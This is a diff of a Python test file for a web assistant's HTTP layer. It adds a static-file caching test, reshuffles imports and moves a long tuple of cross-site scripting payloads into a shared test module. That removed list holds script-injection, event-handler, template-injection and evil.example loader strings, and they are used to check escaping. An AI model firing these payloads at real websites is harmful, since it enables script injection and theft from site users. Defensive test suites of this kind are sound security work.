@@ -14,15 +14,10 @@ from assistant.http.app import create_app
 from assistant.http.headers import POLICY
 from assistant.http.pages import WEB
 from retrieval.documents import Kind, Status
+from tests.assistant.hostile_words import XSS
 from tests.assistant.http_client import CONTRACT, client, offences, read
-from tests.assistant.http_world import (
-    Held,
-    ShelfLibrary,
-    demo_people,
-    make_held,
-    make_parts,
-    make_version,
-)
+from tests.assistant.http_documents import Held, make_held, make_version
+from tests.assistant.http_world import ShelfLibrary, demo_people, make_parts
 
 VERSION = f"/api/documents/{CONTRACT}/versions/1"
 EVERY_ROUTE = {
@@ -110,6 +105,14 @@ def assert_headers(headers: Any, *, is_original: bool = False) -> None:
     assert "access-control-allow-origin" not in headers
 
 
+async def test_a_browser_may_keep_static_files_but_asks_whether_they_changed() -> None:
+    async with client() as http:
+        first = await http.get("/static/pincite.css")
+        tag = {"If-None-Match": first.headers["etag"]}
+        assert first.headers["cache-control"] == "no-cache"
+        assert (await http.get("/static/pincite.css", headers=tag)).status_code == 304
+
+
 @pytest.mark.parametrize("host", ["evil.example", "evil.example:8080", "127.0.0.1.nip.io", ""])
 async def test_answers_only_to_its_own_names(host: str) -> None:
     async with client() as http:
@@ -163,47 +166,6 @@ def test_templates_hold_no_script_style_or_unescaped_value() -> None:
     for file in (WEB / "templates").iterdir():
         text = file.read_text()
         assert not re.search(r"\son\w+=|style=|<style|\|\s*safe|autoescape|<script(?! type)", text)
-
-
-XSS = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script href='data:,alert(1)'/>",
-    '"><script src=//evil.example/x.js></script>',
-    "' onmouseover='alert(1)",
-    '" autofocus onfocus="alert(1)',
-    "javascript:alert(1)",
-    "[x](javascript:alert(1))",
-    "![x](https://evil.example/p.png)",
-    "<https://evil.example/>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
-    "<embed src=//evil.example>",
-    "<base href=//evil.example/>",
-    "<link rel=stylesheet href=//evil.example/a.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<style>@import '//evil.example/a.css'</style>",
-    "<div style='background:url(//evil.example)'>",
-    "<form action=//evil.example><input name=q>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
-    "<a href=//evil.example ping=//evil.example>x</a>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</template><script>alert(1)</script>",
-    "</blockquote></mark><img src=//evil.example>",
-    "{{ 7*7 }}{% raw %}",
-    "{{ cycler.__init__.__globals__ }}",
-    "<!--<img src='--><img src=x onerror=alert(1)//'>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#x3c;img src=x onerror=alert(1)&#x3e;",
-    "\u202e<img src=x onerror=alert(1)>\u2066",
-    "<scr\u200bipt>alert(1)</scr\u200bipt>",
-    "<img/src=`x`onerror=alert(1)>",
-    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
-)
 
 
 def hostile(payload: str) -> Held:
